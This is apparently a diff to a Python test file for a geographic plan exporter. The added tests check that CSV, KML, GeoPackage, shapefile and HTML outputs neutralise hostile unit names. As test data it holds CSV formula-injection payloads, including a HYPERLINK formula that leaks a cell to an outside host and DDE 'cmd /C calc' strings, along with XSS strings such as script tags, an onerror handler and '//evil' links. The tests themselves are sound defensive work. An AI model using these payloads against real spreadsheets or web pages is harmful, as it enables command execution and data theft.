@@ -3,9 +3,13 @@
 from __future__ import annotations
 
 import base64
+import csv
+import dataclasses
+import html
 import io
 import json
 import zipfile
+from html.parser import HTMLParser
 from xml.etree import ElementTree as ET
 
 import geopandas as gpd
@@ -17,6 +21,7 @@ from conftest import grid_units, population_table
 from footprint.errors import PlanError
 from footprint.exporters import (
     EXPORT_FORMATS,
+    KML_NS,
     export_csv,
     export_geojson,
     export_geopackage,
@@ -26,6 +31,7 @@ from footprint.exporters import (
     footprint_layer,
 )
 from footprint.geography import build_geography
+from footprint.plans import read_plan_csv
 
 NHS_CODES = ["00C", "00D", "01A", "02B", "03V", "05X"]
 META = {
@@ -43,8 +49,13 @@ def geo():
     units["name"] = [f"Unit {c} & <Co>" for c in NHS_CODES]
     pop = population_table(NHS_CODES, [100, 200, 300, 400, 500, 600])
     return build_geography(
-        units, pop, code_column="code", population_column="population", name_column="name",
-        name="Test grid", population_label="registered patients (QOF 2013/14 list sizes)",
+        units,
+        pop,
+        code_column="code",
+        population_column="population",
+        name_column="name",
+        name="Test grid",
+        population_label="registered patients (QOF 2013/14 list sizes)",
         attribution=("Contains public sector information licensed under the OGL v3.0",),
         source_digest="abc123",
     )
@@ -111,8 +122,12 @@ def test_geojson_round_trip(geo, tmp_path):
 
 def test_shapefile_zip_round_trip(geo, tmp_path):
     table = pd.DataFrame(
-        {"footprint": ["East", "N&S"], "polsby_popper": [0.7, 0.6],
-         "meets_the_floor": [True, False], "las": [["E06"], ["E06", "E07"]]}
+        {
+            "footprint": ["East", "N&S"],
+            "polsby_popper": [0.7, 0.6],
+            "meets_the_floor": [True, False],
+            "las": [["E06"], ["E06", "E07"]],
+        }
     )
     data = export_shapefile_zip(geo, PLAN, metadata=META, table=table)
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
@@ -174,9 +189,14 @@ def test_html_report_is_self_contained(geo):
 
 def test_html_report_uses_a_given_table(geo):
     table = pd.DataFrame(
-        {"footprint": ["East", "N&S"], "population": [900, 700], "meets_floor": [True, False],
-         "problems": [[], ["below the floor of 800"]], "area_km2": [12345.6, 2.0],
-         "polsby_popper": [0.4567, 0.785]}
+        {
+            "footprint": ["East", "N&S"],
+            "population": [900, 700],
+            "meets_floor": [True, False],
+            "problems": [[], ["below the floor of 800"]],
+            "area_km2": [12345.6, 2.0],
+            "polsby_popper": [0.4567, 0.785],
+        }
     )
     page = export_html_report(geo, PLAN, metadata=META, table=table).decode()
     assert "below the floor of 800" in page and "<td>no</td>" in page
@@ -235,3 +255,190 @@ def test_long_text_fits_the_shapefile_and_objects_become_json(geo, tmp_path):
     assert fps.set_index("footprint").loc["N&S", "problems"] == "é" * 127  # 2 bytes each
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         assert 'constraints: {"floor": 300}' in zf.read("README.txt").decode()
+
+
+# --- hostile names: formulas, control characters, markup, mathtext ------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://elsewhere/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "'=F",
+]
+STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile_units(geo, names: list[str]):
+    """The geography with unit names that skipped the cleaning at the door (a stale cache,
+    a Geography built by hand): the exporters must clean them again."""
+    units = geo.units.copy()
+    units["name"] = names
+    return dataclasses.replace(geo, units=units)
+
+
+def _csv_rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_exports_neutralise_formulas(geo):
+    plan = dict(zip(NHS_CODES, [*FORMULAS, ""], strict=True))
+    hostile = _hostile_units(geo, ["=1+1", "+A1", "-A1", "@A1", "\tA1", "ok"])
+    data = export_csv(hostile, plan)
+    rows = _csv_rows(data.decode())
+    assert rows[0] == ["unit_code", "footprint"]
+    for _, footprint in rows[1:]:
+        assert not footprint.startswith(STARTS)
+    assert rows[1] == ["00C", "'" + FORMULAS[0]]
+    assert rows[5] == ["03V", "''=F"]
+    # the app's own file reads back exactly
+    assert read_plan_csv(data, known_codes=NHS_CODES).assignment == {
+        c: f for c, f in plan.items() if f
+    }
+
+    with zipfile.ZipFile(io.BytesIO(export_shapefile_zip(hostile, plan))) as zf:
+        rows = _csv_rows(zf.read("assignment.csv").decode())
+    assert rows[0] == ["unit_code", "nhs_code", "name", "population", "footprint"]
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(STARTS), row
+    by_code = {r[0]: r for r in rows[1:]}
+    assert by_code["00C"][2:] == ["'=1+1", "100", "'" + FORMULAS[0]]
+    assert by_code["00D"][2:] == ["'+A1", "200", "'" + FORMULAS[1]]
+    assert by_code["02B"][2] == "'@A1"
+    # a tab is a control character: cleaned away, so nothing is left to quote
+    assert by_code["03V"][2:] == ["A1", "500", "''=F"]  # numbers stay numbers
+
+
+NASTY = {
+    "00C": "Nor\x00th",
+    "00D": "Esc\x1b[31m",
+    "01A": "<b>&amp;</b>",
+    "02B": "a]]>b",
+    "03V": "\ufffeline\nbreak\u202e",
+}
+
+
+def test_kml_parses_whatever_the_names_hold(geo):
+    from xml.dom import minidom
+
+    hostile = _hostile_units(geo, ["\x00", "a\x1bb", "<x>", "&", "]]>", "\uffffz"])
+    meta = {"scenario": "S\x00c<&>", "notes": "two\nlines\x0b\x00 and ]]>", "status": "\x07ok"}
+    data = export_kml(hostile, NASTY, metadata=meta)
+    root = ET.fromstring(data)
+    minidom.parseString(data)  # a second parser agrees
+    ns = {"k": KML_NS}
+    names = sorted(m.find("k:name", ns).text for m in root.findall(".//k:Placemark", ns))
+    assert names == sorted(["North", "Esc[31m", "<b>&amp;</b>", "a]]>b", "line break"])
+    assert root.find("k:Document/k:name", ns).text == "Sc<&>"
+    assert "two\nlines\n and ]]>" in root.find("k:Document/k:description", ns).text
+
+
+def test_geopackage_and_shapefile_keep_cleaned_names(geo, tmp_path):
+    hostile = _hostile_units(geo, ["A\x00B", "C", "D", "E", "F", "G\r\nH"])
+    plan = {"00C": "Ea\x00st", "00D": "Ea\x00st", "01A": "We\x1bst"}
+    path = tmp_path / "nul.gpkg"
+    path.write_bytes(export_geopackage(hostile, plan, metadata={"scenario": "x\x00y"}))
+    units = pyogrio.read_dataframe(path, layer="assignment")
+    assert units.set_index("unit_code")["name"].to_dict() == {
+        "00C": "AB",
+        "00D": "C",
+        "01A": "D",
+        "02B": "E",
+        "03V": "F",
+        "05X": "G H",
+    }
+    fps = pyogrio.read_dataframe(path, layer="footprints")
+    assert sorted(fps["footprint"]) == ["East", "West"]
+    assert fps.set_index("footprint").loc["East", "n_units"] == 2  # the cleaned labels meet
+    meta = pyogrio.read_dataframe(path, layer="metadata", read_geometry=False)
+    assert dict(zip(meta["key"], meta["value"], strict=True))["scenario"] == "xy"
+    shp = _read(export_shapefile_zip(hostile, plan), tmp_path, "nul.zip")
+    assert sorted(shp["footprint"]) == ["East", "West"]
+
+
+HTML_NAMES = {
+    "00C": "$x$",
+    "00D": "$x^$",  # not even valid mathematics
+    "01A": "<script>alert(1)</script>",
+    "02B": "<img src=x onerror=alert(1)>",
+    "03V": '" onmouseover="alert(1)',
+}
+
+
+def test_html_report_shows_names_as_typed_and_fetches_nothing(geo):
+    hostile = _hostile_units(
+        geo, ["<script>alert(2)</script>", "$\\frac{", "<a href='//evil'>u</a>", "b", "c", "d"]
+    )
+    meta = {
+        "scenario": "$5m to $6m <img src=//evil/p.png>",
+        "status": "<b>optimal</b>",
+        "notes": "<iframe src='https://elsewhere'></iframe>",
+        "title": "Plan </title><script>alert(3)</script>",
+    }
+    page = export_html_report(hostile, HTML_NAMES, metadata=meta).decode()
+    for name in [*HTML_NAMES.values(), "<script>alert(2)</script>", "<a href='//evil'>u</a>"]:
+        assert html.escape(name) in page
+    assert "$5m to $6m &lt;img src=//evil/p.png&gt;" in page
+    assert "<script" not in page and "<img src=x" not in page and "<iframe" not in page
+    assert "<b>optimal</b>" not in page
+    # the only address in the page is the map, inside the file itself
+    tags = _Tags()
+    tags.feed(page)
+    assert set(tags.names) <= {
+        "html",
+        "head",
+        "meta",
+        "title",
+        "style",
+        "body",
+        "h1",
+        "h2",
+        "p",
+        "strong",
+        "br",
+        "img",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "pre",
+        "ul",
+        "li",
+    }
+    assert len(tags.addresses) == 1 and tags.addresses[0].startswith("data:image/png;base64,")
+    assert "url(" not in page and "@import" not in page
+
+
+class _Tags(HTMLParser):
+    """The elements of a page and every address its attributes point to."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.names: list[str] = []
+        self.addresses: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.names.append(tag)
+        self.addresses += [v or "" for k, v in attrs if k in ("src", "href", "action", "srcset")]
+
+
+def test_report_map_draws_dollar_signs_as_text(geo):
+    from matplotlib.text import Text
+
+    drawn: list[tuple[str, bool]] = []
+    original = Text.draw
+
+    def spy(self, renderer):
+        if self.get_text():
+            drawn.append((self.get_text(), self.get_parse_math()))
+        return original(self, renderer)
+
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(Text, "draw", spy)
+        export_html_report(geo, HTML_NAMES, metadata={"scenario": "$5m to $6m"})
+    texts = dict(drawn)
+    assert texts["$5m to $6m: 5 footprints"] is False
+    assert texts["$x$"] is False and texts["$x^$"] is False
